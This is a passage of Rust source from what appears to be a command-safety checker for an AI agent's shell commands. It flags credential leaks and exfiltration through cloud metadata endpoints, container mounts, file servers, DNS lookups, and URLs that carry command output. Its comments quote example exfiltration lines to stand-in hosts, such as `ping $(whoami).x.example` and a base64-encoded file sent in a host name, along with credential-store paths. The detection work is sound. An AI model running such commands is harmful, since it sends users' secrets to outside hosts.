        matches!(v.as_str(), "0" | "false" | "no" | "off" | "") || v.contains('$')
    });
    if !off {
        return None;
    }
    let on = |n: &str| {
        value(n).is_some_and(|v| !matches!(v.as_str(), "0" | "false" | "no" | "off" | ""))
    };
    let trace = [
        "GIT_TRACE_CURL",
        "GIT_CURL_VERBOSE",
        "GIT_TRACE_PACKET",
        "GIT_TRACE",
    ]
    .into_iter()
    .find(|n| on(n))?;
    Some(format!(
        "GIT_TRACE_REDACT is off while {trace} traces git's exchanges: the Authorization header git's credential helper supplies is printed where the agent reads it; leave GIT_TRACE_REDACT unset to trace with it redacted"
    ))
}

/// DNS look-up tools (and `whois`, whose query goes to the registry's server): a name
/// computed at run time becomes a query any resolver on the way (and the domain's owner)
/// reads.
const RESOLVERS: &[&str] = &[
    "whois",
    "dig",
    "nslookup",
    "host",
    "drill",
    "kdig",
    "resolvectl",
    "delv",
];

/// Flows out of the machine that no single catalogue entry shows, over the whole command:
/// a cloud metadata endpoint asked by any program (its URL in any word, interpreter code
/// included), a container given a home or a credential store (`docker run -v ~:/h`,
/// `docker cp ~/.ssh/id_rsa x:/`), a static file server serving a tree that holds one
/// (`python3 -m http.server` in `$HOME`) or any tree (soft: everything under it,
/// `.env` and followed links included, goes to whoever connects), and a DNS query whose
/// name is computed by a command (soft). Hard ones are credential verdicts.
pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) -> Vec<Verdict> {
    let mut out = Vec::new();
    for (i, sc) in a.commands.iter().enumerate() {
        let prog = sc.program().unwrap_or("");
        let text = crate::decision::cause::one_line(&sc.text, 200);
        let cwd = findings
            .get(i)
            .and_then(|f| f.cwd.clone())
            .unwrap_or_else(|| ctx.cwd.to_path_buf());
        let place = |w: &str| paths::lexical(w, &cwd, ctx.home);
        let mut hit: Option<Verdict> = unredacted_trace(sc).map(|why| Verdict::Hard {
            category: "credential",
            reason: why,
            command: text.clone(),
        });
        if hit.is_none() && !PINGERS.contains(&prog) {
            if let Some((host, what)) = sc.argv.iter().skip(1).find_map(|w| {
                hosts_in(w).into_iter().find_map(|h| {
                    crate::context::floor::metadata_host(h).map(|what| (h.to_string(), what))
                })
            }) {
                hit = Some(Verdict::Hard {
                    category: "credential",
                    reason: format!(
                        "{prog} asks {what} ({host}), which hands out this machine's credentials; the cloud SDKs and CLIs fetch them themselves"
                    ),
                    command: text.clone(),
                });
            }
        }
        if hit.is_none() && matches!(prog, "docker" | "podman" | "nerdctl" | "finch") {
            let args = sc.exec.get(1..).unwrap_or(&[]);
            let sub = args
                .iter()
                .find(|a| !a.starts_with('-'))
                .map(String::as_str);
            let mut sources: Vec<String> = Vec::new();
            if matches!(sub, Some("run" | "create" | "container")) {
                sources = mount_sources(args);
            } else if sub == Some("cp") {
                let ops: Vec<&String> = args
                    .iter()
                    .skip(1)
                    .filter(|a| !a.starts_with('-'))
                    .collect();
                if let Some(src) = ops.first() {
                    if !src.contains(':') || src.starts_with('/') || src.starts_with('.') {
                        sources.push((*src).clone());
                    }
                }
            }
            for s in sources {
                if s.contains('$') {
                    continue;
                }
                let p = place(&s);
                let cred = super::core::path_class(&p, Access::Read, ctx).and_then(|c| match c {
                    PathClass::Credential { what } => Some(what.to_string()),
                    _ => None,
                });
                let why = cred
                    .map(|w| format!("{} holds {w}", p.display()))
                    .or_else(|| {
                        crate::context::floor::tree_holds_store(&p, ctx.floor)
                            .map(|w| format!("{}: {w}", p.display()))
                    });
                if let Some(why) = why {
                    hit = Some(Verdict::Hard {
                        category: "credential",
                        reason: format!(
                            "{prog} gives a container {why}; mount the project directory (or a copy of what it needs) instead"
                        ),
                        command: text.clone(),
                    });
                    break;
                }
            }
        }
        // A server the effect model describes (`python -m http.server`: its tree read
        // through links and what it sends) has its soft tier from those effects; only a
        // served tree holding a store is added here.
        let described = findings.get(i).is_some_and(|f| {
            f.effects
                .iter()
                .any(|e| matches!(e, Effect::Net { sends, .. } if !sends.is_empty()))
        });
        if hit.is_none() {
            if let Some(dir) = served_dir(&sc.exec) {
                let p = dir.map(|d| place(&d)).unwrap_or_else(|| cwd.clone());
                let holds = crate::context::floor::tree_holds_store(&p, ctx.floor);
                if holds.is_none() && described {
                    continue;
                }
                hit = Some(match holds {
                    Some(why) => Verdict::Hard {
                        category: "credential",
                        reason: format!(
                            "{prog} serves {} to the network and {why}; serve a directory that holds only what should be public",
                            p.display()
                        ),
                        command: text.clone(),
                    },
                    None => Verdict::Soft {
                        category: "exfiltration",
                        reason: format!(
                            "{prog} serves everything under {} to whoever connects (secrets by name and the links in it included)",
                            p.display()
                        ),
                        command: text.clone(),
                    },
                });
            }
        }
        // The value a host name computed at run time carries, and the word.
        let mut sent: Option<(String, Carry)> = None;
        // The host the value goes to, when it is fixed (a URL's path or query).
        let mut sent_host: Option<String> = None;
        if hit.is_none() && RESOLVERS.contains(&prog) {
            let computed = sc
                .exec
                .iter()
                .skip(1)
                .find(|w| w.contains("$(") || w.contains('`'));
            if let Some(w) = computed {
                sent = Some((w.clone(), Carry::Substitution));
                hit = Some(Verdict::Soft {
                    category: "exfiltration",
                    reason: format!(
                        "{prog} looks up a name computed by a command: its output leaves the machine in the DNS query"
                    ),
                    command: text.clone(),
                });
            }
        }
        // Any program not described as routine given a host name that holds a value
        // computed at run time (`ping $(whoami).x.example`, `curl https://$USER.x.example/`):
        // resolving it sends the value to whoever answers for the domain. A word its
        // grammar names as a path (`tar -cf $(date).tar.gz`) is no host. A routine program
        // is exempt only when it reaches no host ([`reaches_network`]): a routine network
        // reader (`git ls-remote`, `git fetch`, a GET) resolves the URL it is given as
        // any other program does.
        let f = findings.get(i);
        let routine =
            f.is_some_and(|f| matches!(f.class, Class::Routine { .. }) && !reaches_network(f));
        // Substitutions that only print literals (`$(echo bucket)`) put no value of this
        // machine's into a name or a URL.
        let literal_output = {
            let mut subs = a
                .commands
                .iter()
                .filter(|c| c.part == sc.part && matches!(c.origin, Origin::Substitution));
            subs.clone().next().is_some() && subs.all(|c| c.output.is_some())
        };
        let value = |carry: &Carry| match carry {
            Carry::Env { name } => format!("the value of ${name}"),
            _ => "a command's output".to_string(),
        };
        if hit.is_none() {
            let found = sc.exec.iter().skip(1).find_map(|w| {
                computed_host(w)
                    .filter(|c| !(literal_output && *c == Carry::Substitution))
                    .filter(|_| !f.is_some_and(|f| names_path(f, w)))
                    .map(|c| (w.clone(), c))
            });
            if let (false, Some((w, carry))) = (routine, found) {
                hit = Some(Verdict::Soft {
                    category: "exfiltration",
                    reason: format!(
                        "{prog} {HOST_AT_RUN_TIME} `{}`, computed at run time: {} leaves the machine in its DNS query",
                        crate::decision::cause::one_line(&w, 80),
                        value(&carry)
                    ),
                    command: text.clone(),
                });
                sent = Some((w, carry));
            }
        }
        // A URL to a host beyond this machine whose path or query holds a command's
        // output or a variable's value (`curl "https://x.example/?q=$(git config
        // user.email)"`, `git ls-remote https://x.example/$(base64 -w0 src/main.rs)`): the
        // request carries that value to the host, whichever program makes it (routine
        // network readers included, as above). (Loopback stays on the machine; a computed
        // host is judged above; a substitution that prints only literals carries nothing,
        // and a `$` the shell left as it is — quoted — expands nothing.)
        if hit.is_none() {
            let found = sc.exec.iter().enumerate().skip(1).find_map(|(j, w)| {
                if !exec_word_dynamic(sc, j) {
                    return None;
                }
                url_carries_output(w)
                    .filter(|(_, c)| !(literal_output && *c == Carry::Substitution))
                    .map(|(host, c)| (w, host, c))
            });
            if let (false, Some((w, host, carry))) = (routine, found) {
                hit = Some(Verdict::Soft {
                    category: "exfiltration",
                    reason: format!(
                        "{prog} puts {} in the URL `{}`: it leaves the machine for {host}",
                        value(&carry),
                        crate::decision::cause::one_line(w, 80)
                    ),
                    command: text.clone(),
                });
                sent = Some((w.clone(), carry));
                sent_host = Some(host);
            }
        }
        // A secret-shaped value written out in any word of a command that reaches a host
        // beyond this machine: the URL (path, query, user name and password), a header,
        // an auth option, a cookie, a user agent, a proxy, a registry or index URL, a name
        // looked up in the DNS, the TLS server name, an ssh user or remote command, a login
        // — every part of the request the program's grammar puts on the wire leaves with
        // it, so the value is sent to that host, as it is in a body (`curl -d`). The test
        // is the one every secret-shaped value gets ([`crate::context::web::carries_secret`],
        // the redaction scanner's, also percent-decoded and piece by piece in a URL), over
        // each word (`--password=VALUE` included; an option and its value in two words are
        // not joined: `-u`, `--cookie` mean different things, a file among them, to each
        // program). Words the grammar names as local paths are no part of the request.
        if hit.is_none() {
            if let Some((host, shown)) = findings.get(i).and_then(|f| literal_secret_sent(sc, f)) {
                hit = Some(Verdict::Soft {
                    category: "exfiltration",
                    reason: format!(
                        "{prog} sends {shown} to {}",
                        host.as_deref().unwrap_or("the host it reaches")
                    ),
                    command: text.clone(),
                });
                sent = Some((
                    String::new(),
                    Carry::Literal {
                        text: "a value written in the command".into(),
                    },
                ));
                sent_host = host;
            }
        }
        let Some(v) = hit else { continue };
        match (findings.get_mut(i), &v) {
            (
                Some(f),
                Verdict::Hard {
                    category, reason, ..
                },
            ) => {
                f.effects.push(Effect::Secret {
                    what: "credentials".into(),
                });
                f.class = Class::Hard {
                    category,
                    reason: reason.clone(),
                };
            }
            // The finding says what the verdict says, so every view (auto mode's needs,
            // explain) reads the same tier: data leaves to a host no one named.
            (
                Some(f),
                Verdict::Soft {
                    category, reason, ..
                },
            ) if !matches!(f.class, Class::Hard { .. }) => {
                let (url, carry) = match sent {
                    Some((w, c)) => (Some(w).filter(|w| !w.is_empty()), c),
                    None => (None, Carry::Substitution),
                };
                f.effects.push(Effect::Net {
                    url,
                    host: sent_host,
                    sends: vec![carry],
                });
                f.class = Class::Soft {
                    category,
                    reason: reason.clone(),
                };
            }
            _ => {}
        }
        out.push(v);
    }
    out
}

/// Does this finding reach a host: a fetch or send (`Effect::Net`) or an exchange with a
/// remote service (`Effect::Remote`: `git ls-remote`, `git fetch`)? Such a program
/// resolves and requests the URLs it is given, so what a URL carries leaves the machine
/// even when the floor calls the program routine.
fn reaches_network(f: &Finding) -> bool {
    f.effects
        .iter()
        .any(|e| matches!(e, Effect::Net { .. } | Effect::Remote { .. }))
}

/// The host a command reaching the network sends a literal secret-shaped value to (when
/// the effects name one) and the value's word, redacted, if any word of the command
/// carries one, or a host name it resolves carries data in its labels
/// ([`crate::context::web::name_carries_data`]). A finding whose every host is this
/// machine (loopback) and that talks to no remote service sends nothing away.
fn literal_secret_sent(sc: &SimpleCommand, f: &Finding) -> Option<(Option<String>, String)> {
    if !reaches_network(f) {
        return None;
    }
    let mut hosts = Vec::new();
    let mut remote = false;
    for e in &f.effects {
        match e {
            Effect::Net { url, host, .. } => {
                let h = host.clone().or_else(|| {
                    url.as_deref()
                        .and_then(crate::analysis::effects::grammar::host_of)
                });
                match h {
                    Some(h) if floor::is_loopback(&h) || h.eq_ignore_ascii_case("localhost") => {}
                    Some(h) => hosts.push(h),
                    None => remote = true,
                }
            }
            Effect::Remote { .. } => remote = true,
            _ => {}
        }
    }
    if hosts.is_empty() && !remote {
        return None;
    }
    let words: Vec<&String> = sc
        .exec
        .iter()
        .skip(1)
        .filter(|w| !names_path(f, w))
        .collect();
    // A name resolved on the way (a URL's host, a name looked up or pinged) that carries
    // data in its labels sends it to the domain's name server, as a secret in it does.
    let resolver = RESOLVERS.contains(&sc.program().unwrap_or(""))
        || PINGERS.contains(&sc.program().unwrap_or(""));
    let name_data = |w: &str| {
        let name = if w.contains("://") {
            crate::analysis::effects::grammar::host_of(w)
        } else if resolver && !w.starts_with(['-', '+']) {
            Some(w.to_string())
        } else {
            None
        };
        name.is_some_and(|n| crate::context::web::name_carries_data(&n))
    };
    let (shown, what) = words.iter().find_map(|w| {
        if crate::context::web::carries_secret(w) {
            Some((w.to_string(), "a secret-shaped value"))
        } else if name_data(w) {
            Some((w.to_string(), "data encoded in a host name"))
        } else {
            None
        }
    })?;
    Some((
        hosts.into_iter().next(),
        format!(
            "{what} written in the command (`{}`)",
            crate::decision::cause::one_line(&crate::decision::redact::redact_str(&shown), 80)
        ),
    ))
}

/// Did word `j` of `sc.exec` hold an expansion the shell left unresolved? `exec` is the
/// tail of `argv` once wrappers are stripped; a word that cannot be matched with its
/// `argv` word counts as unresolved (fail closed).
fn exec_word_dynamic(sc: &SimpleCommand, j: usize) -> bool {
    let Some(k) = (sc.argv.len() + j).checked_sub(sc.exec.len()) else {
        return true;
    };
    if sc.argv.get(k) != sc.exec.get(j) {
        return true;
    }
    sc.dynamic_words.get(k).copied().unwrap_or(true)
}

/// When `word` is a URL (`scheme://host…`) to a fixed host that is not loopback, with a
/// command substitution or a variable after the host: that host and what the expansion
/// carries.
fn url_carries_output(word: &str) -> Option<(String, Carry)> {
    let (scheme, rest) = word.split_once("://")?;
    if scheme.is_empty()
        || !scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.' | '"' | '\''))
    {
        return None;
    }
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, tail) = rest.split_at(end);
    if authority.contains(['$', '`']) {
        return None;
    }
    let host = authority.rsplit('@').next().unwrap_or(authority);
    let host = if let Some(h) = host.strip_prefix('[') {
        h.split(']').next().unwrap_or(h)
    } else {
        host.split(':').next().unwrap_or(host)
    };
    if host.is_empty()
        || crate::context::floor::is_loopback(host)
        || host.eq_ignore_ascii_case("localhost")
    {
        return None;
    }
    let (_, _, carry) = expansions_in(tail).into_iter().next()?;
    Some((host.to_ascii_lowercase(), carry))
}

/// Last labels of file names that no top-level domain uses (checked against the public
/// suffix list, `/usr/share/publicsuffix/public_suffix_list.dat` of Debian's publicsuffix
/// package): a word ending in one (`$(date).tar.gz`) is a file name, never resolved by a
/// public name server. A label with a digit (`bz2`, `mp4`) is no top-level domain either.
const NOT_TLDS: &[&str] = &[
    "gz", "xz", "zst", "lz", "tar", "tgz", "js", "ts", "jsx", "tsx", "mjs", "cjs", "css", "scss",
    "json", "txt", "log", "html", "htm", "xml", "yml", "yaml", "toml", "lock", "bak", "tmp",
    "orig", "rej", "patch", "diff", "csv", "tsv", "sql", "db", "sqlite", "whl", "deb", "rpm",
    "jar", "war", "pdf", "png", "jpg", "jpeg", "gif", "svg", "webp", "wav", "exe", "dll", "dylib",
    "out",
];

/// The value a word sends to DNS as part of a host name computed at run time: a URL whose
/// host holds an expansion (`https://$(cat x | base64).e.example/`), or an expansion
/// followed by a domain of two labels or more whose last could be a top-level domain
/// (`$(whoami).x.example`, `${USER}.evil.example:53`). The output of a command
/// substitution, or the value of a variable.
pub(super) fn computed_host(word: &str) -> Option<Carry> {
    if !word.contains(['$', '`']) {
        return None;
    }
    if let Some(at) = word.find("://") {
        // After the last character that cannot be in a scheme (whatever its width).
        let start = word[..at]
            .char_indices()
            .rev()
            .find(|(_, c)| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-')))
            .map_or(0, |(i, c)| i + c.len_utf8());
        let scheme = &word[start..at];
        if scheme.starts_with(|c: char| c.is_ascii_alphabetic()) {
            let rest = &word[at + 3..];
            let auth = &rest[..top_level(rest, &['/', '?', '#']).unwrap_or(rest.len())];
            let host = match top_level_last(auth, '@') {
                Some(i) => &auth[i + 1..],
                None => auth,
            };
            let host = &host[..top_level(host, &[':']).unwrap_or(host.len())];
            return expansions_in(host).into_iter().next().map(|(_, _, c)| c);
        }
    }
    for (_, end, carry) in expansions_in(word) {
        let rest = &word[end..];
        let rest = &rest[..top_level(rest, &[':', '/']).unwrap_or(rest.len())];
        let rest = rest.strip_suffix('.').unwrap_or(rest);
        let labels: Vec<&str> = rest.split('.').collect();
        let shaped = labels.len() >= 3
            && labels[1..]
                .iter()
                .all(|l| !l.is_empty() && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
            && labels[0]
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '-');
        let tld = labels.last().copied().unwrap_or("");
        let could_be_tld = (tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic())
            || tld.to_ascii_lowercase().starts_with("xn--"))
            && !NOT_TLDS.contains(&tld.to_ascii_lowercase().as_str());
        if shaped && could_be_tld {
            return Some(carry);
        }
    }
    None
}

/// The expansions in a word outside quotes' reach (`$(…)`, backquotes, `${…}`, `$NAME`),
/// as (start, end, what they carry).
fn expansions_in(word: &str) -> Vec<(usize, usize, Carry)> {
    let b = word.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'`' => {
                let end = word[i + 1..].find('`').map_or(b.len(), |j| i + 1 + j + 1);
                out.push((i, end, Carry::Substitution));
                i = end;
            }
            b'$' if b.get(i + 1) == Some(&b'(') => {
                let end = closing(word, i + 1, b'(', b')');
                out.push((i, end, Carry::Substitution));
                i = end;
            }
            b'$' if b.get(i + 1) == Some(&b'{') => {
                let end = closing(word, i + 1, b'{', b'}');
                // Up to the closing brace, or to the end of an unclosed one (never inside
                // a character).
                let inner_end = if end > i + 2 && b[end - 1] == b'}' {
                    end - 1
                } else {
                    end.max(i + 2)
                };
                let inner = word.get(i + 2..inner_end).unwrap_or("");
                let name: String = inner
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                // Only a parameter bash expands (`${USER}`, `${HOST:-x}`): `${a.b}` is a
                // bad substitution to bash (and a template literal's in other languages).
                let rest = &inner[name.len()..];
                let valid = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                    && (rest.is_empty()
                        || rest.starts_with([
                            ':', '-', '+', '=', '?', '#', '%', '/', '^', ',', '@', '[',
                        ]));
                if valid {
                    out.push((i, end, Carry::Env { name }));
                }
                i = end;
            }
            b'$' if b
                .get(i + 1)
                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') =>
            {
                let len = word[i + 1..]
                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                    .unwrap_or(b.len() - i - 1);
                out.push((
                    i,
                    i + 1 + len,
                    Carry::Env {
                        name: word[i + 1..i + 1 + len].to_string(),
                    },
                ));
                i += 1 + len;
            }
            _ => i += 1,
        }
    }
    out
}

/// The index just past the bracket that closes the one at `open` (the word's end when none
/// does).
fn closing(word: &str, open: usize, up: u8, down: u8) -> usize {
    let mut depth = 0usize;
    for (j, c) in word.bytes().enumerate().skip(open) {
        if c == up {
            depth += 1;
        } else if c == down {
            depth -= 1;
            if depth == 0 {
                return j + 1;
            }
        }
    }
    word.len()
}

/// The first of `stops` in `text` outside an expansion.
fn top_level(text: &str, stops: &[char]) -> Option<usize> {
    let spans = expansions_in(text);
    text.char_indices()
        .find(|(i, c)| stops.contains(c) && !spans.iter().any(|(s, e, _)| i >= s && i < e))
        .map(|(i, _)| i)
}

/// The last `stop` in `text` outside an expansion.
fn top_level_last(text: &str, stop: char) -> Option<usize> {
    let spans = expansions_in(text);
    text.char_indices()
        .rev()
        .find(|(i, c)| *c == stop && !spans.iter().any(|(s, e, _)| i >= s && i < e))
        .map(|(i, _)| i)
}

/// Does the finding's grammar name `word` as a path it reads, writes, deletes, unpacks or
/// runs?
fn names_path(f: &Finding, word: &str) -> bool {
    f.effects.iter().any(|e| match e {
        Effect::Read { path, .. } | Effect::Write { path, .. } | Effect::Delete { path, .. } => {
            path == word
        }
        Effect::Unpack { archive, into, .. } => archive == word || into == word,
        Effect::Run {
            code: crate::analysis::effects::Code::File { path },
        } => path == word,
        _ => false,
    })
}

/// An argument computed at run time whose fixed parts already name a credential store:
/// each expansion (`$PPID`, `${X}`, `$(…)`) stands for any one path component, and the
/// result is matched against the stores (`/proc/$PPID/environ` is `/proc/*/environ`,
/// `~/.ssh/$KEY` lies in `~/.ssh`). Why it may read one, if so.
pub(super) fn dynamic_store(cmd: &Cmd, ctx: &JudgeCtx) -> Option<String> {
    let cwd = cmd.cwd.dir()?;
    let args = cmd
        .args()
        .iter()
        .enumerate()
        .filter(|(k, a)| cmd.arg_dynamic(*k) && super::core::is_expansion(a))
        .map(|(_, a)| a);
    // A redirection's target too (`tr '\0' '\n' < /proc/$$/environ`).
    let redirected = cmd
        .sc
        .redirects
        .iter()
        .filter(|r| {
            r.dynamic
                && !matches!(
                    r.op,
                    RedirectOp::DupOut
                        | RedirectOp::DupIn
                        | RedirectOp::Close
                        | RedirectOp::HereDoc
                        | RedirectOp::HereString
                )
        })
        .map(|r| &r.target);
    for a in args.chain(redirected) {
        let Some(pattern) = expansions_as_components(a) else {
            continue;
        };
        // Only a word whose root is fixed: `/…` or a home (`~/…`, `$HOME/…`).
        let placed = if let Some(rest) = pattern.strip_prefix("~/") {
            ctx.home.join(rest)
        } else if pattern.starts_with('/') {
            std::path::PathBuf::from(&pattern)
        } else {
            continue;
        };
        let forms = crate::context::paths::forms(&placed.display().to_string(), cwd, ctx.home);
        let class = forms
            .forms()
            .find_map(|f| floor::classify(f, Access::Read, ctx.floor));
        if let Some(PathClass::Credential { what }) = class {
            return Some(format!(
                "{a}, a path computed at run time that names {what} whatever it expands to"
            ));
        }
    }
    // A word that may land on a store, depending on what it expands to.
    let args = cmd
        .args()
        .iter()
        .enumerate()
        .filter(|(k, _)| cmd.arg_dynamic(*k))
        .map(|(_, a)| a);
    let redirected = cmd
        .sc
        .redirects
        .iter()
        .filter(|r| r.dynamic && matches!(r.op, RedirectOp::In | RedirectOp::InOut))
        .map(|r| &r.target);
    for a in args.chain(redirected) {
        if let Some((at, what)) = computed_store(a, Some(cwd), ctx.home, ctx.floor) {
            return Some(format!(
                "{a}, a path computed at run time that may be {} ({what})",
                at.display()
            ));
        }
    }
    None
}

/// A suffix after an expansion with the `..` that climb from it dropped: the expansion is
/// any directory, and so is its parent (`"$(go env GOPATH)/../.netrc"` is a `.netrc` in a
/// directory no one knows before it runs).
fn past_climbs(mut suffix: &str) -> &str {
    while let Some(rest) = suffix.strip_prefix("/..") {
        if !(rest.is_empty() || rest.starts_with('/')) {
            break;
        }
        suffix = rest;
    }
    suffix
}

/// The literal tail of a word computed at run time, from the `/` after its last
/// expansion or pattern on (`"$(git rev-parse --git-dir)/hooks/pre-commit"` →
/// `/hooks/pre-commit`, `"$(npm config get prefix)/bin/git"` → `/bin/git`), with the
/// `..` that climb from the expansion dropped: where the word lands ends with it, in a
/// directory that is not known before it runs. None for a word with no expansion, or
/// whose tail starts inside a name (`$f.json`).
pub(crate) fn computed_tail(word: &str) -> Option<&str> {
    let spans = expansions_in(word);
    let last = spans
        .iter()
        .map(|s| s.1)
        .chain(
            word.char_indices()
                .filter(|(i, c)| {
                    matches!(c, '*' | '?') && !spans.iter().any(|(s, e, _)| i >= s && i < e)
                })
                .map(|(i, _)| i + 1),
        )
        .max()?;
    let tail = past_climbs(word.get(last..)?);
    (tail.starts_with('/') && tail.len() > 1).then_some(tail)
}

/// A word computed at run time that could land on a credential store, read as bash builds
/// it: the literal text before its first expansion or pattern character (`prefix`),
/// anything (a `/` too) in between, the literal text after the last (`suffix`). It may be
/// a store when the prefix lies in the home and a store's path can continue it
/// (`~/.ne${x}trc`, `~/.ssh/$k`, `~/$x`, `~/.a$x/credentials`, `~/.[a-z]*/hosts.yml`), or
/// when the prefix is empty or above the home and the suffix, from a `/` on, ends a
/// store's path (`$(ls -d ~)/.netrc`, `"$dir/.ssh/id_rsa"`, `/home/$USER/.netrc`): where
/// the expansion lands is not known, and that is a place it may land. A word of
/// expansions only (`"$f"`), a suffix that starts inside a name (`$f.json`) and a prefix
/// outside the home (`build/$x/config`, `/tmp/$x/.netrc`) name no store. The stores are the floor's
/// ([`floor::sensitive_files`], with the private key names in `~/.ssh` and the host keys
/// in `/etc/ssh`); a `..` an expansion may hold is not followed. The store and why, if so.
pub(crate) fn computed_store(
    word: &str,
    cwd: Option<&std::path::Path>,
    home: &std::path::Path,
    floor_ctx: &floor::FloorCtx,
) -> Option<(std::path::PathBuf, &'static str)> {
    // An expansion, or a pattern's `*`, `?` or `[…]` (what it matches may not exist
    // yet when the floor looks).
    let spans = expansions_in(word);
    let globs: Vec<usize> = word
        .char_indices()
        .filter(|(i, c)| {
            matches!(c, '*' | '?' | '[') && !spans.iter().any(|(s, e, _)| i >= s && i < e)
        })
        .map(|(i, _)| i)
        .collect();
    let first = spans
        .first()
        .map(|s| s.0)
        .into_iter()
        .chain(globs.first().copied())
        .min()?;
    let last = spans
        .last()
        .map(|s| s.1)
        .into_iter()
        .chain(globs.last().map(|&g| {
            // Past the bracket expression a `[` opens.
            match word[g..].starts_with('[') {
                true => word[g..].find(']').map_or(word.len(), |k| g + k + 1),
                false => g + 1,
            }
        }))
        .max()?;
    let (prefix, suffix) = (word.get(..first)?, word.get(last..)?);
    let suffix = past_climbs(suffix);
    let prefix = match prefix {
        "" => String::new(),
        p if p.starts_with('/') => p.to_string(),
        p => format!("{}/{p}", cwd?.display()),
    };
    // `..` climbs lexically, as the shell resolves the word (`../"$(basename
    // "$HOME")"/.netrc` from a directory beside the home is under the home's parent).
    let prefix = match prefix.rsplit_once('/') {
        Some((dirs, tail)) if dirs.contains("/..") || dirs.contains("/./") => {
            let d = crate::context::paths::normalize(std::path::Path::new(dirs));
            format!("{}/{tail}", d.display().to_string().trim_end_matches('/'))
        }
        _ => prefix,
    };
    let home_s = home.display().to_string();
    let home_dir = format!("{}/", home_s.trim_end_matches('/'));
    let placed =
        !prefix.is_empty() && (prefix.starts_with(&home_dir) || home_dir.starts_with(&prefix));
    if !(placed || (prefix.is_empty() && suffix.starts_with('/'))) {
        return None;
    }
    let keys = floor::sensitive::PRIVATE_KEY_NAMES
        .iter()
        .map(|k| home.join(".ssh").join(k));
    let host_keys = ["rsa", "ecdsa", "ed25519", "dsa"]
        .iter()
        .map(|k| std::path::PathBuf::from(format!("/etc/ssh/ssh_host_{k}_key")));
    // Inside the home: the rest may be any path under it.
    let within = prefix.starts_with(&home_dir);
    let store_of = |candidate: std::path::PathBuf| match floor::classify(
        &candidate,
        Access::Read,
        floor_ctx,
    ) {
        Some(PathClass::Credential { what }) => Some((candidate, what)),
        _ => None,
    };
    // The expansion is the home itself (`$(ls -d ~)/.aws/credentials`).
    if suffix.starts_with('/') && home_dir.starts_with(&prefix) {
        if let Some(found) = store_of(home.join(suffix.trim_start_matches('/'))) {
            return Some(found);
        }
    }
    let stores = floor::sensitive_files(home).chain(keys).chain(host_keys);
    for store in stores.take(2_000) {
        let at = store.display().to_string();
        let inside = format!("{at}/");
        // The word spelling this store (`~/.ne${x}trc`), or a path inside it (`~/.ssh/$k`,
        // `~/.a$x/credentials`).
        let candidate = if at.len() >= prefix.len() + suffix.len()
            && at.starts_with(&prefix)
            && at.ends_with(suffix)
        {
            store.clone()
        } else if within && prefix.starts_with(&inside) {
            std::path::PathBuf::from(format!("{prefix}x{suffix}"))
        } else if within && inside.starts_with(&prefix) {
            std::path::PathBuf::from(format!("{inside}x{suffix}"))
        } else {
            continue;
        };
        if let Some(found) = store_of(candidate) {
            return Some(found);
        }
    }
    None
}

/// `word` with each expansion replaced by `*` (a whole component: an expansion inside a
/// component makes that component `*`), `$HOME`/`${HOME}` at the start as `~`; `None`
/// when an expansion could hold a `/` the text does not show (`$(…)` is judged as one
/// component too, since it names one word's worth of path).
fn expansions_as_components(word: &str) -> Option<String> {
    let w = word
        .strip_prefix("$HOME/")
        .or_else(|| word.strip_prefix("${HOME}/"))
        .map(|r| format!("~/{r}"))
        .unwrap_or_else(|| word.to_string());
    let mut out = Vec::new();
    for comp in w.split('/') {
        if comp.contains('$') || comp.contains('`') {
            out.push("*".to_string());
        } else {
            out.push(comp.to_string());
        }
    }
    let p = out.join("/");
    (p != w || word != w).then_some(p)
}
